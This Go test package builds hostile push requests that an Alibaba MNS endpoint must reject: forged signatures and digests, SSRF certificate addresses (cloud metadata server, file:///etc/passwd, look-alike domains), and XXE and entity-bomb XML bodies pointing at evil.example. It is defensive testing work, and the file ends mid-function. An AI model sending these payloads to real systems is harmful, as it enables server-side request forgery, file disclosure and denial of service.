// Package mnsattack has requests that an endpoint for MNS pushes must refuse and not
// store; each is one change away from a push that it accepts. Tests send them to a
// handler, to a function or to a running server. The package shares no code with
// shared/mns, and so no mistake.
package mnsattack

import (
	"bytes"
	"crypto/md5"
	"encoding/base64"
	"encoding/hex"
	"encoding/json"
	"fmt"
	"io"
	"net/http"
	"net/url"
	"slices"
	"strconv"
	"strings"
	"time"

	"example.com/pushinbox/local/mnskey"
	"example.com/pushinbox/testkit/pushattack"
)

// Target is the endpoint to attack.
type Target struct {
	// URL is the endpoint's address, with its secret when it has one.
	URL string
	// Secret is the secret in URL. Without one, the cases about it are left out.
	Secret string
	// Owner is a topic owner whose pushes the endpoint accepts.
	Owner string
	// CertificateURL is the address of the signing certificate, and Sign returns the
	// signature of a text with its key, in base64.
	CertificateURL string
	Sign           func(text string) string
	// Now is the endpoint's clock; nil means time.Now.
	Now func() time.Time
}

// Case is a request with the status that the endpoint must answer.
type Case struct {
	Name    string
	Status  int
	Request *http.Request
}

// An endpoint that accepted a request of this package would store this message.
const (
	Topic        = "hostile"
	Subscription = "hostile-sub"
	MessageID    = "HOSTILE-1"
	Message      = "I am a hostile message."
)

// The formats of a push, for Good.
const (
	XML        = "XML"
	JSON       = "JSON"
	Simplified = "SIMPLIFIED"
)

// Good returns a push in one of the formats that the endpoint must answer with 201. The
// other requests are changed copies of it.
func Good(t Target, format string) *http.Request {
	d := t.draft()
	switch format {
	case JSON:
		d = t.json(nil)
	case Simplified:
		d = t.simplified(Message, t.Owner)
	}
	return d.sign().request()
}

// Cases returns requests that the endpoint must refuse. They name the endpoint's
// usual certificate, or an address that must never be fetched.
func Cases(t Target) []Case {
	return slices.Concat(
		signatures(t), digests(t), addresses(t), targets(t), bodies(t), owners(t), secrets(t),
	)
}

// draft is a push that can be changed before or after it is signed.
type draft struct {
	target Target
	method string
	url    string
	header http.Header
	body   string
	size   int64 // size to announce, in bytes; 0 means the body's
}

// draft returns an XML push without a signature.
func (t Target) draft() *draft { return t.xml(notification(t.Owner)) }

func (t Target) xml(body string) *draft {
	now := time.Now
	if t.Now != nil {
		now = t.Now
	}
	return &draft{target: t, method: http.MethodPost, url: t.URL, body: body, header: http.Header{
		"User-Agent":             {"Aliyun Notification Service Agent"},
		"Content-Type":           {"text/xml;charset=utf-8"},
		"Date":                   {now().UTC().Format(http.TimeFormat)},
		"X-Mns-Version":          {"2015-06-06"},
		"X-Mns-Request-Id":       {"573AE020B2B71CFC6801A6EF"},
		"X-Mns-Signing-Cert-Url": {encode(t.CertificateURL)},
	}}
}

// json returns a JSON push with some members changed; nil removes one.
func (t Target) json(changes map[string]any) *draft {
	members := map[string]any{
		"TopicOwner": t.Owner, "TopicName": Topic, "Subscriber": t.Owner, "SubscriptionName": Subscription,
		"MessageId": MessageID, "MessageMD5": upperMD5(Message), "Message": Message, "PublishTime": "1463476245000",
	}
	for name, value := range changes {
		members[name] = value
		if value == nil {
			delete(members, name)
		}
	}
	b, err := json.Marshal(members)
	if err != nil {
		panic(err) // the cases' own values
	}
	d := t.xml(string(b))
	d.header.Set("Content-Type", "application/json")
	return d
}

// simplified returns a SIMPLIFIED push of a topic of this owner.
func (t Target) simplified(body, owner string) *draft {
	d := t.xml(body)
	for name, value := range map[string]string{
		"Content-Type":            "text/plain;charset=utf-8",
		"Content-Md5":             upperMD5(body),
		"X-Mns-Message-Id":        MessageID,
		"X-Mns-Topic-Owner":       owner,
		"X-Mns-Topic-Name":        Topic,
		"X-Mns-Subscriber":        t.Owner,
		"X-Mns-Subscription-Name": Subscription,
		"X-Mns-Publish-Time":      "1463476245000",
	} {
		d.header.Set(name, value)
	}
	return d
}

// notification is the XML of a push.
func notification(owner string) string {
	return `<?xml version="1.0" encoding="utf-8"?>
<Notification xmlns="http://mns.aliyuncs.com/doc/v1/">
  <TopicOwner>` + owner + `</TopicOwner>
  <TopicName>` + Topic + `</TopicName>
  <Subscriber>` + owner + `</Subscriber>
  <SubscriptionName>` + Subscription + `</SubscriptionName>
  <MessageId>` + MessageID + `</MessageId>
  <MessageMD5>` + upperMD5(Message) + `</MessageMD5>
  <Message>` + Message + `</Message>
  <PublishTime>1463476245000</PublishTime>
</Notification>`
}

// set sets a header, or removes it when there are no values.
func (d *draft) set(name string, values ...string) *draft {
	if len(values) == 0 {
		delete(d.header, name)
	} else {
		d.header[name] = values
	}
	return d
}

// sign signs the draft as it is. It adds the digest of the body if there is none.
func (d *draft) sign() *draft {
	if d.header["Content-Md5"] == nil {
		d.set("Content-Md5", encode(strings.ToLower(upperMD5(d.body))))
	}
	return d.set("Authorization", d.target.Sign(d.text()))
}

// text returns the text that the signature covers.
func (d *draft) text() string {
	return strings.Join([]string{d.method, d.header.Get("Content-Md5"), d.header.Get("Content-Type"), d.header.Get("Date")}, "\n") +
		"\n" + strings.Join(d.serviceHeaders(), "\n") + "\n" + d.path()
}

func (d *draft) serviceHeaders() []string {
	var lines []string
	for name, values := range d.header {
		if name = strings.ToLower(name); strings.HasPrefix(name, "x-mns-") {
			lines = append(lines, name+":"+strings.Join(values, ","))
		}
	}
	slices.Sort(lines)
	return lines
}

// path returns the request target as it is written in the URL.
func (d *draft) path() string {
	_, rest, _ := strings.Cut(d.url, "://")
	if i := strings.IndexAny(rest, "/?"); i >= 0 && rest[i] == '/' {
		return rest[i:]
	}
	return "/"
}

func (d *draft) request() *http.Request {
	r, err := http.NewRequest(d.method, d.url, strings.NewReader(d.body))
	if err != nil {
		panic(err) // the tests' own URL
	}
	r.Header = d.header
	if d.size > 0 {
		r.Body = io.NopCloser(io.MultiReader(strings.NewReader(d.body), io.LimitReader(pushattack.Spaces{}, d.size-int64(len(d.body)))))
		r.ContentLength, r.GetBody = d.size, nil
		// Without it, a client may see the connection end before the answer.
		r.Header.Set("Expect", "100-continue")
	}
	return r
}

func encode(s string) string { return base64.StdEncoding.EncodeToString([]byte(s)) }

func upperMD5(s string) string {
	sum := md5.Sum([]byte(s))
	return strings.ToUpper(hex.EncodeToString(sum[:]))
}

// signatures are pushes without a valid signature of this push at this time.
func signatures(t Target) []Case {
	var cases []Case
	forbid := func(name string, d *draft) {
		cases = append(cases, Case{name, http.StatusForbidden, d.request()})
	}
	good := t.draft().sign().header.Get("Authorization")
	raw, err := base64.StdEncoding.DecodeString(good)
	if err != nil {
		panic(err)
	}
	for name, values := range map[string][]string{
		"no_authorization":         nil,
		"empty_authorization":      {""},
		"doubled_authorization":    {good, good},
		"authorization_with_name":  {"MNS " + good},
		"authorization_of_a_call":  {"MNS local:" + good},
		"bearer_authorization":     {"Bearer " + good},
		"authorization_no_base64":  {strings.Repeat("~", len(good))},
		"authorization_url_base64": {"-_" + good[2:]},
		"signature_unpadded":       {strings.TrimRight(good, "=") + "A"},
		"signature_twice_in_one":   {good + ", " + good},
		"signature_of_zeros":       {encode(strings.Repeat("\x00", len(raw)))},
		"signature_of_one":         {encode(strings.Repeat("\x00", len(raw)-1) + "\x01")},
		"signature_of_ff":          {encode(strings.Repeat("\xff", len(raw)))},
		"signature_a_byte_short":   {encode(string(raw[1:]))},
		"signature_a_byte_long":    {encode("\x00" + string(raw))},
		"signature_of_one_byte":    {encode("\x01")},
		"signature_of_10_kb":       {encode(strings.Repeat("\x01", 10<<10))},
		"signature_altered":        {pushattack.Flip(good)},
		"signature_cut":            {encode(string(raw[:len(raw)/2]))},
	} {
		forbid(name, t.draft().sign().set("Authorization", values...))
	}
	stranger, err := mnskey.New(len(raw)*8, 65537)
	if err != nil {
		panic(err) // no randomness
	}
	d := t.draft().sign()
	forbid("signed_by_another_key", d.set("Authorization", stranger.Sign(d.text())))

	date, err := http.ParseTime(t.draft().header.Get("Date"))
	if err != nil {
		panic(err)
	}
	at := func(offset time.Duration) string { return date.Add(offset).Format(http.TimeFormat) }
	for name, value := range map[string]string{
		"date_16_minutes_old":   at(-16 * time.Minute),
		"date_16_minutes_ahead": at(16 * time.Minute),
		"date_of_2016":          "Tue, 17 May 2016 09:10:56 GMT",
		"date_of_9999":          "Fri, 31 Dec 9999 23:59:59 GMT",
		"date_empty":            "",
		"date_garbage":          "now",
		"date_unix":             strconv.FormatInt(date.Unix(), 10),
		"date_rfc3339":          date.Format(time.RFC3339),
	} {
		forbid(name, t.draft().set("Date", value).sign())
	}
	forbid("date_missing", t.draft().set("Date").sign())
	forbid("date_doubled", t.draft().set("Date", at(0), at(0)).sign())
	d = t.draft().sign()
	signed, err := http.ParseTime(d.header.Get("Date"))
	if err != nil {
		panic(err)
	}
	forbid("date_altered", d.set("Date", signed.Add(time.Second).Format(http.TimeFormat)))

	forbid("header_added", t.draft().sign().set("X-Mns-Added", "x"))
	forbid("header_removed", t.draft().sign().set("X-Mns-Version"))
	forbid("header_altered", t.draft().sign().set("X-Mns-Request-Id", "573AE020B2B71CFC6801A6EE"))
	forbid("header_doubled", t.draft().sign().set("X-Mns-Version", "2015-06-06", "2015-06-06"))
	forbid("header_doubled_and_signed", t.draft().set("X-Mns-Version", "2015-06-06", "2015-06-06").sign())
	forbid("made_simplified", t.draft().sign().set("X-Mns-Message-Id", MessageID))
	forbid("made_xml", t.simplified(notification(t.Owner), t.Owner).sign().set("X-Mns-Message-Id"))
	forbid("owner_header_altered", t.simplified(Message, "6660000000000000").sign().set("X-Mns-Topic-Owner", t.Owner))
	forbid("content_type_altered", t.draft().sign().set("Content-Type", "text/plain"))
	forbid("content_type_missing", t.draft().sign().set("Content-Type"))
	forbid("content_type_doubled", t.draft().sign().set("Content-Type", "text/xml;charset=utf-8", "text/html"))

	d = t.draft().sign()
	lines := d.serviceHeaders()
	slices.Reverse(lines)
	text := strings.Replace(d.text(), strings.Join(d.serviceHeaders(), "\n"), strings.Join(lines, "\n"), 1)
	forbid("signed_in_another_order", d.set("Authorization", t.Sign(text)))
	d = t.draft().sign()
	forbid("signed_with_capitals", d.set("Authorization", t.Sign(strings.ReplaceAll(d.text(), "x-mns-", "X-Mns-"))))
	d = t.draft().sign()
	forbid("signed_with_a_line_more", d.set("Authorization", t.Sign(d.text()+"\n")))
	d = t.draft().sign()
	forbid("signed_without_headers", d.set("Authorization", t.Sign(strings.Replace(d.text(), strings.Join(d.serviceHeaders(), "\n")+"\n", "", 1))))
	d = t.draft().sign()
	forbid("signed_for_get", d.set("Authorization", t.Sign(strings.Replace(d.text(), "POST", "GET", 1))))
	return cases
}

// digests are pushes whose body is not the one that was signed.
func digests(t Target) []Case {
	var cases []Case
	forbid := func(name string, d *draft) {
		cases = append(cases, Case{name, http.StatusForbidden, d.request()})
	}
	swapped := t.draft().sign()
	swapped.body = strings.Replace(swapped.body, Message, "I am an altered message", 1)
	forbid("body_swapped", swapped)
	appended := t.draft().sign()
	appended.body += "\n"
	forbid("body_appended", appended)
	removed := t.draft().sign()
	removed.body = ""
	forbid("body_removed", removed)
	simplified := t.simplified(Message, t.Owner).sign()
	simplified.body = "I am an altered message"
	forbid("simplified_body_swapped", simplified)

	other := md5.Sum([]byte("another body"))
	digits := hex.EncodeToString(other[:])
	sum := md5.Sum([]byte(t.draft().body))
	for name, value := range map[string]string{
		"digest_wrong_hex":           strings.ToUpper(digits),
		"digest_wrong_base64_of_hex": encode(digits),
		"digest_wrong_base64":        encode(string(other[:])),
		"digest_empty":               "",
		"digest_garbage":             "garbage",
		"digest_of_nothing":          upperMD5(""),
		"digest_raw":                 string(bytes.ToValidUTF8(sum[:], []byte("?"))),
		"digest_cut":                 hex.EncodeToString(sum[:])[:31],
		"digest_longer":              hex.EncodeToString(sum[:]) + "00",
		"digest_base64_twice":        encode(encode(hex.EncodeToString(sum[:]))),
	} {
		if strings.ContainsFunc(value, func(r rune) bool { return r < ' ' || r == 0x7f }) {
			continue // not a valid header
		}
		forbid(name, t.draft().set("Content-Md5", value).sign())
	}
	// Not with sign, which would add a digest.
	d := t.draft()
	forbid("digest_missing", d.set("Authorization", t.Sign(d.text())))
	forbid("digest_removed", t.draft().sign().set("Content-Md5"))
	d = t.draft().sign()
	digest := d.header.Get("Content-Md5")
	forbid("digest_doubled", d.set("Content-Md5", digest, digest))
	return cases
}

// addresses are pushes with a certificate's address that must never be fetched. The
// signature covers the address.
func addresses(t Target) []Case {
	const host, path = "mnstest.oss-cn-hangzhou.aliyuncs.com", "/x509_public_certificate.pem"
	var cases []Case
	forbid := func(name string, values ...string) {
		cases = append(cases, Case{name, http.StatusForbidden, t.draft().set("X-Mns-Signing-Cert-Url", values...).sign().request()})
	}
	good := encode(t.CertificateURL)
	forbid("address_missing")
	forbid("address_empty", "")
	forbid("address_doubled", good, good)
	forbid("address_not_encoded", "https://"+host+path)
	forbid("address_base64_of_garbage", encode("\x00\x01garbage\xff"))
	forbid("address_base64_twice", encode(good))
	forbid("address_of_10_kb", encode("https://mns-cert.oss-cn-"+strings.Repeat("a", 10<<10)+".aliyuncs.com"+path))
	for name, address := range map[string]string{
		"look_alike_suffix":        "https://" + host + ".evil.example" + path,
		"look_alike_prefix":        "https://evil-" + host + path,
		"look_alike_dash":          "https://mnstest-oss-cn-hangzhou.aliyuncs.com" + path,
		"look_alike_domain":        "https://mns-cert.oss-cn-hangzhou.aliyuncs.co" + path,
		"look_alike_dot":           "https://mnstest.oss-cn-hangzhou.aliyuncs\u3002com" + path,
		"look_alike_cyrillic":      "https://mnst\u0435st.oss-cn-hangzhou.aliyuncs.com" + path,
		"any_dot":                  "https://mnstestXoss-cn-hangzhou.aliyuncs.com" + path,
		"subdomain":                "https://evil." + host + path,
		"other_bucket":             "https://evil.oss-cn-hangzhou.aliyuncs.com" + path,
		"test_bucket_elsewhere":    "https://mnstest.oss-cn-beijing.aliyuncs.com" + path,
		"userinfo":                 "https://user@" + host + path,
		"userinfo_is_the_host":     "https://" + host + "@evil.example" + path,
		"userinfo_with_password":   "https://" + host + ":x@evil.example" + path,
		"port_443":                 "https://" + host + ":443" + path,
		"port_8443":                "https://" + host + ":8443" + path,
		"port_empty":               "https://" + host + ":" + path,
		"ipv4":                     "https://127.0.0.1" + path,
		"ipv4_number":              "https://2130706433" + path,
		"ipv6":                     "https://[::1]" + path,
		"ipv6_mapped":              "https://[::ffff:127.0.0.1]" + path,
		"metadata_server":          "http://169.254.169.254/computeMetadata/v1/",
		"localhost":                "https://localhost" + path,
		"http_elsewhere":           "http://evil.example" + path,
		"scheme_upper_case":        "HTTPS://" + host + path,
		"scheme_ftp":               "ftp://" + host + path,
		"scheme_file":              "file:///etc/passwd",
		"scheme_data":              "data:text/plain,x",
		"scheme_missing":           "//" + host + path,
		"scheme_three_slashes":     "https:///" + host + path,
		"host_upper_case":          "https://MNSTEST.oss-cn-hangzhou.aliyuncs.com" + path,
		"host_trailing_dot":        "https://" + host + "." + path,
		"host_escaped":             "https://mnstest%2eoss-cn-hangzhou.aliyuncs.com" + path,
		"host_missing":             "https://" + path,
		"path_missing":             "https://" + host,
		"path_other":               "https://" + host + "/evil.cer",
		"path_root":                "https://" + host + "/",
		"path_only_extension":      "https://" + host + "/.pem",
		"path_extension_in_caps":   "https://" + host + "/evil.PEM",
		"path_extension_escaped":   "https://" + host + "/evil%2epem",
		"path_folder":              "https://" + host + "/evil" + path,
		"path_folder_escaped":      "https://" + host + "/evil%2fevil.pem",
		"path_folder_backslash":    "https://" + host + `/evil\evil.pem`,
		"path_dots_in_name":        "https://" + host + "/evil..pem",
		"path_dot_first":           "https://" + host + "/.evil.pem",
		"path_space":               "https://" + host + "/evil evil.pem",
		"path_not_ascii":           "https://" + host + "/\u0435vil.pem",
		"path_at":                  "https://" + host + "/@evil.example.pem",
		"path_of_200_bytes":        "https://" + host + "/" + strings.Repeat("a", 196) + ".pem",
		"path_longer":              "https://" + host + path + "/evil",
		"path_backup":              "https://" + host + path + ".bak",
		"path_double_slash":        "https://" + host + "/" + path,
		"path_dots":                "https://" + host + "/evil/.." + path,
		"path_escaped":             "https://" + host + "/x509%5fpublic_certificate.pem",
		"path_upper_case":          "https://" + host + strings.ToUpper(path),
		"path_parameters":          "https://" + host + path + ";evil",
		"query":                    "https://" + host + path + "?x=1",
		"query_of_other_name":      "https://" + host + "/evil.pem?x=.pem",
		"fragment_of_other_name":   "https://" + host + "/evil.pem#.pem",
		"port_of_other_name":       "https://" + host + ":8443/evil.pem",
		"userinfo_of_other_name":   "https://x@" + host + "/evil.pem",
		"host_of_other_name":       "https://evil.example/evil.pem",
		"line_feed_of_other_name":  "https://" + host + "/evil.pem\n",
		"query_empty":              "https://" + host + path + "?",
		"fragment":                 "https://" + host + path + "#x",
		"backslash":                `https://evil.example\` + host + path,
		"backslash_at":             `https://` + host + `\@evil.example` + path,
		"space_before":             " https://" + host + path,
		"line_feed_after":          "https://" + host + path + "\n",
		"line_before":              "https://evil.example/\nhttps://" + host + path,
		"nul_after":                "https://" + host + path + "\x00",
		"nul_in_host":              "https://" + host + "\x00.evil.example" + path,
		"tab_in_host":              "https://mnstest.oss-cn-hangzhou\t.aliyuncs.com" + path,
		"region_missing":           "https://mns-cert.oss-cn-.aliyuncs.com" + path,
		"region_absent":            "https://mns-cert.aliyuncs.com" + path,
		"region_with_dot":          "https://mns-cert.oss-cn-x.evil.aliyuncs.com" + path,
		"region_with_slash":        "https://mns-cert.oss-cn-x/.aliyuncs.com" + path,
		"region_ends_host":         "https://mns-cert.oss-cn-x.evil.example/.aliyuncs.com" + path,
		"region_with_at":           "https://mns-cert.oss-cn-x@evil.example/.aliyuncs.com" + path,
		"region_with_query":        "https://mns-cert.oss-cn-x.evil.example?.aliyuncs.com" + path,
		"region_with_fragment":     "https://mns-cert.oss-cn-x.evil.example#.aliyuncs.com" + path,
		"region_with_colon":        "https://mns-cert.oss-cn-x:80.aliyuncs.com" + path,
		"region_with_hyphen_first": "https://mns-cert.oss-cn--x.aliyuncs.com" + path,
		"region_with_hyphen_last":  "https://mns-cert.oss-cn-x-.aliyuncs.com" + path,
		"region_with_underscore":   "https://mns-cert.oss-cn-x_y.aliyuncs.com" + path,
		"region_upper_case":        "https://mns-cert.oss-cn-X.aliyuncs.com" + path,
	} {
		forbid("address_"+name, encode(address))
	}
	return cases
}

// targets are pushes to another request target than the signed one.
func targets(t Target) []Case {
	var cases []Case
	u, err := url.Parse(t.URL)
	if err != nil {
		panic(err)
	}
	origin := u.Scheme + "://" + u.Host
	path := strings.TrimSuffix(u.EscapedPath(), "/")
	query := ""
	if u.RawQuery != "" {
		query = "?" + u.RawQuery
	}
	for name, target := range map[string]string{
		"path_altered":      "/elsewhere" + path + query,
		"path_dots_added":   "/x/.." + path + "/" + query,
		"path_slash_added":  "/" + path + "/" + query,
		"path_escaped":      "/%6e" + path + query,
		"query_added":       path + "/?x=1&" + u.RawQuery,
		"query_mark_added":  path + "/.?" + u.RawQuery,
		"path_case_altered": "/A" + path + query,
	} {
		d := t.draft().sign()
		d.url = origin + target
		cases = append(cases, Case{"target_" + name, http.StatusForbidden, d.request()})
	}
	put := t.draft()
	put.method = http.MethodPut
	get := t.draft()
	get.method, get.body = http.MethodGet, ""
	large := t.draft().sign()
	large.size = 8 << 20
	return append(cases,
		Case{"method_put", http.StatusMethodNotAllowed, put.sign().request()},
		Case{"method_get", http.StatusMethodNotAllowed, get.sign().request()},
		Case{"body_of_8_mb", http.StatusRequestEntityTooLarge, large.request()},
	)
}

// bodies are pushes of the right sender whose body cannot be decoded.
func bodies(t Target) []Case {
	var cases []Case
	bad := func(name string, d *draft) {
		cases = append(cases, Case{name, http.StatusBadRequest, d.sign().request()})
	}
	good := notification(t.Owner)
	replace := func(old, new string) string {
		if !strings.Contains(good, old) {
			panic("mnsattack: the push does not have " + old)
		}
		return strings.Replace(good, old, new, 1)
	}
	document := func(prolog string) string { return replace(`<?xml version="1.0" encoding="utf-8"?>`, prolog) }
	inMessage := func(text string) string { return replace(Message, text) }
	var laughs strings.Builder
	laughs.WriteString(`<!DOCTYPE lolz [<!ENTITY l0 "lol">`)
	for i := range 20 {
		fmt.Fprintf(&laughs, `<!ENTITY l%d "%s">`, i+1, strings.Repeat(fmt.Sprintf("&l%d;", i), 10))
	}
	laughs.WriteString("]>")
	for name, body := range map[string]string{
		"empty":                   "",
		"space":                   " \n",
		"text":                    "hello",
		"cut":                     good[:len(good)-1],
		"cut_in_half":             good[:len(good)/2],
		"trailing_text":           good + "x",
		"leading_text":            "x" + good,
		"two_documents":           good + good,
		"second_root_is_empty":    good + "<Notification/>",
		"other_root":              strings.ReplaceAll(good, "Notification", "Message"),
		"root_missing":            "<?xml version=\"1.0\"?>",
		"root_in_another":         "<Notifications>" + strings.TrimPrefix(good, `<?xml version="1.0" encoding="utf-8"?>`) + "</Notifications>",
		"no_owner":                replace("<TopicOwner>"+t.Owner+"</TopicOwner>", ""),
		"no_topic":                replace("<TopicName>"+Topic+"</TopicName>", ""),
		"no_subscription":         replace("<SubscriptionName>"+Subscription+"</SubscriptionName>", ""),
		"no_subscriber":           replace("<Subscriber>"+t.Owner+"</Subscriber>", ""),
		"no_message_id":           replace("<MessageId>"+MessageID+"</MessageId>", ""),
		"no_md5":                  replace("<MessageMD5>"+upperMD5(Message)+"</MessageMD5>", ""),
		"no_message":              replace("<Message>"+Message+"</Message>", ""),
		"no_publish_time":         replace("<PublishTime>1463476245000</PublishTime>", ""),
		"message_id_empty":        replace(MessageID, ""),
		"owner_empty":             replace(t.Owner, ""),
		"owner_twice":             replace("</TopicOwner>", "</TopicOwner><TopicOwner>"+t.Owner+"</TopicOwner>"),
		"message_twice":           replace("</Message>", "</Message><Message>"+Message+"</Message>"),
		"owner_deeper":            replace("<TopicOwner>"+t.Owner+"</TopicOwner>", "<X><TopicOwner>"+t.Owner+"</TopicOwner></X>"),
		"owner_with_elements":     replace(t.Owner, "<b>"+t.Owner+"</b>"),
		"owner_in_parts":          replace(t.Owner, t.Owner[:3]+"<b/>"+t.Owner[3:]),
		"name_lower_case":         strings.ReplaceAll(good, "TopicOwner", "topicowner"),
		"topic_with_slash":        replace("<TopicName>"+Topic, "<TopicName>"+Topic+"/x"),
		"topic_with_line_feed":    replace("<TopicName>"+Topic, "<TopicName>"+Topic+"&#10;x"),
		"topic_over_256":          replace("<TopicName>"+Topic, "<TopicName>"+strings.Repeat("t", 257)),
		"message_id_over_256":     replace(MessageID, strings.Repeat("m", 257)),
		"md5_wrong":               replace(upperMD5(Message), upperMD5("another")),
		"md5_garbage":             replace(upperMD5(Message), "garbage"),
		"md5_of_base64":           replace(upperMD5(Message), upperMD5(encode(Message))),
		"publish_time_text":       replace("1463476245000", "now"),
		"publish_time_negative":   replace("1463476245000", "-1"),
		"publish_time_fraction":   replace("1463476245000", "1463476245000.5"),
		"publish_time_huge":       replace("1463476245000", "99999999999999999999"),
		"publish_time_10000":      replace("1463476245000", "253402300800000"),
		"doctype":                 document("<!DOCTYPE Notification>"),
		"doctype_external":        document(`<!DOCTYPE Notification SYSTEM "https://evil.example/x.dtd">`),
		"doctype_inside":          replace("<TopicName>", "<!DOCTYPE x><TopicName>"),
		"entity_bomb":             strings.Replace(document(laughs.String()), Message, "&l20;", 1),
		"entity_bomb_quadratic":   strings.Replace(document(`<!DOCTYPE x [<!ENTITY a "`+strings.Repeat("a", 1000)+`">]>`), Message, strings.Repeat("&a;", 1000), 1),
		"entity_external":         strings.Replace(document(`<!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]>`), Message, "&e;", 1),
		"entity_parameter":        document(`<!DOCTYPE x [<!ENTITY % p SYSTEM "https://evil.example/x.dtd"> %p;]>`),
		"entity_unknown":          inMessage("&hostile;"),
		"entity_of_html":          inMessage("&nbsp;"),
		"character_nul":           inMessage("&#0;"),
		"character_too_high":      inMessage("&#x110000;"),
		"character_control":       inMessage("\x01"),
		"not_utf8":                inMessage("\xff\xfe"),
		"encoding_utf16":          "\xff\xfe<\x00N\x00o\x00t\x00",
		"version_2":               document(`<?xml version="2.0"?>`),
		"deep":                    replace("<TopicName>", strings.Repeat("<a>", 10_000)+strings.Repeat("</a>", 10_000)+"<TopicName>"),
		"deep_unclosed":           strings.Repeat("<Notification>", 50_000),
		"attributes_unclosed":     "<Notification " + strings.Repeat(`a="b" `, 50_000),
		"attribute_without_value": replace("<TopicName>", "<TopicName a>"),
		"tag_misnamed":            replace("</TopicName>", "</TopicNam>"),
		"comment_unclosed":        replace("<TopicName>", "<!-- <TopicName>"),
		"cdata_unclosed":          inMessage("<![CDATA["),
	} {
		bad("xml_"+name, t.xml(body))
	}

	for name, changes := range map[string]map[string]any{
		"no_owner":             {"TopicOwner": nil},
		"no_message":           {"Message": nil},
		"no_message_id":        {"MessageId": nil},
		"owner_number":         {"TopicOwner": 1000000000000000},
		"owner_array":          {"TopicOwner": []string{t.Owner}},
		"owner_object":         {"TopicOwner": map[string]string{"x": t.Owner}},
		"owner_lower_case":     {"TopicOwner": nil, "topicowner": t.Owner},
		"message_object":       {"Message": map[string]string{"x": Message}},
		"md5_wrong":            {"MessageMD5": upperMD5("another")},
		"publish_time_object":  {"PublishTime": map[string]int{"x": 1}},
		"publish_time_true":    {"PublishTime": true},
		"publish_time_float":   {"PublishTime": 1463476245000.5},
		"publish_time_huge":    {"PublishTime": json.Number("1e999999")},
		"publish_time_empty":   {"PublishTime": ""},
		"topic_with_slash":     {"TopicName": Topic + "/x"},
		"message_id_with_line": {"MessageId": MessageID + "\n"},
	} {
		bad("json_"+name, t.json(changes))
	}
	goodJSON := t.json(nil).body
	for name, body := range map[string]string{
		"empty":              "",
		"null":               "null",
		"array":              "[" + goodJSON + "]",
		"string":             strconv.Quote(goodJSON),
		"empty_object":       "{}",
		"cut":                goodJSON[:len(goodJSON)-1],
		"trailing_data":      goodJSON + "x",
		"two_objects":        goodJSON + goodJSON,
		"comment":            "/**/" + goodJSON,
		"owner_twice":        `{"TopicOwner":"` + t.Owner + `",` + goodJSON[1:],
		"owner_twice_hidden": `{"Topic\u004fwner":"` + t.Owner + `",` + goodJSON[1:],
		"owner_null":         strings.Replace(goodJSON, `"TopicOwner":"`+t.Owner+`"`, `"TopicOwner":null`, 1),
		"not_utf8":           strings.Replace(goodJSON, `"`+Topic+`"`, "\"\xff\"", 1),
		"deep":               `{"x":` + strings.Repeat("[", 50_000) + strings.Repeat("]", 50_000) + "," + goodJSON[1:],
		"deep_unclosed":      strings.Repeat(`{"a":`, 50_000),
	} {
		d := t.json(nil)
		d.body = body
		bad("json_"+name, d)
	}

	for name, contentType := range map[string]string{
		"image":     "image/png",
		"form":      "application/x-www-form-urlencoded",
		"malformed": ";;;",
		"none":      "",
	} {
		d := t.xml("hello")
		bad("content_type_"+name, d.set("Content-Type", contentType))
	}

	bad("simplified_no_message_id", t.simplified(Message, t.Owner).set("X-Mns-Message-Id", ""))
	bad("simplified_no_message_id_but_xml", t.simplified(good, t.Owner).set("X-Mns-Message-Id", ""))
	bad("simplified_message_id_over_256", t.simplified(Message, t.Owner).set("X-Mns-Message-Id", strings.Repeat("m", 257)))
	bad("simplified_message_id_not_utf8", t.simplified(Message, t.Owner).set("X-Mns-Message-Id", "\xff"))
	bad("simplified_topic_with_slash", t.simplified(Message, t.Owner).set("X-Mns-Topic-Name", Topic+"/x"))
	bad("simplified_publish_time", t.simplified(Message, t.Owner).set("X-Mns-Publish-Time", "now"))
	return cases
}

// owners are pushes of somebody else's topic. MNS signs those too.
func owners(t Target) []Case {
	const stranger = "6660000000000000"
	var cases []Case
	forbid := func(name string, d *draft) {
		cases = append(cases, Case{name, http.StatusForbidden, d.sign().request()})
	}
	for name, owner := range map[string]string{
		"other":    stranger,
		"prefix":   t.Owner[:len(t.Owner)-1],
		"longer":   t.Owner + "0",
		"with_nbs": t.Owner + "\u00a0",
		"list":     t.Owner + "," + stranger,
	} {
		forbid("xml_owner_"+name, t.xml(notification(owner)))
		forbid("json_owner_"+name, t.json(map[string]any{"TopicOwner": owner}))
		if name != "with_nbs" { // not valid in a header
			forbid("simplified_owner_"+name, t.simplified(Message, owner))
		}
	}
	forbid("xml_owner_with_spaces", t.xml(strings.Replace(notification(t.Owner), t.Owner, " "+t.Owner+" ", 1)))
	// The publisher chooses the body of a SIMPLIFIED push, and makes it look like another push.
	forbid("simplified_body_is_xml", t.simplified(notification(t.Owner), stranger))
	forbid("simplified_body_is_json", t.simplified(t.json(nil).body, stranger))
	forbid("simplified_body_is_xml_and_says_so", t.simplified(notification(t.Owner), stranger).set("Content-Type", "text/xml"))
	if t.Secret == "" {
		forbid("simplified_without_owner", t.simplified(Message, t.Owner).set("X-Mns-Topic-Owner"))
		forbid("simplified_without_names", t.simplified(Message, t.Owner).
			set("X-Mns-Topic-Owner").set("X-Mns-Topic-Name").set("X-Mns-Subscriber").set("X-Mns-Subscription-Name"))
		forbid("simplified_body_is_xml_without_owner", t.simplified(notification(t.Owner), t.Owner).set("X-Mns-Topic-Owner"))
	}
	return cases
}

// secrets are pushes to an address without the endpoint's secret. The signature
// covers that address.
func secrets(t Target) []Case {
	if t.Secret == "" {
		return nil
	}
	var cases []Case
	forbid := func(name, url string) {
		d := t.draft()
		d.url = url
		cases = append(cases, Case{"secret_" + name, http.StatusForbidden, d.sign().request()})
	}
	with := func(s string) string { return strings.Replace(t.URL, url.PathEscape(t.Secret), s, 1) }
	forbid("absent", with(""))
	forbid("wrong", with("wrong"))
	forbid("prefix", with(t.Secret[:len(t.Secret)-1]))
	forbid("longer", with(t.Secret+"x"))
	forbid("other_case", with(strings.ToUpper(t.Secret)+"X"))
	forbid("escaped_twice", with("%25"+hex.EncodeToString([]byte(t.Secret[:1]))+t.Secret[1:]))
	u, err := url.Parse(t.URL)
	if err != nil {
		panic(err)
	}
	origin := u.Scheme + "://" + u.Host
	forbid("not_last", origin+"/"+t.Secret+"/x")
	forbid("before_slash", origin+"/"+t.Secret+"/")
	forbid("other_parameter", origin+"/?secret="+t.Secret)
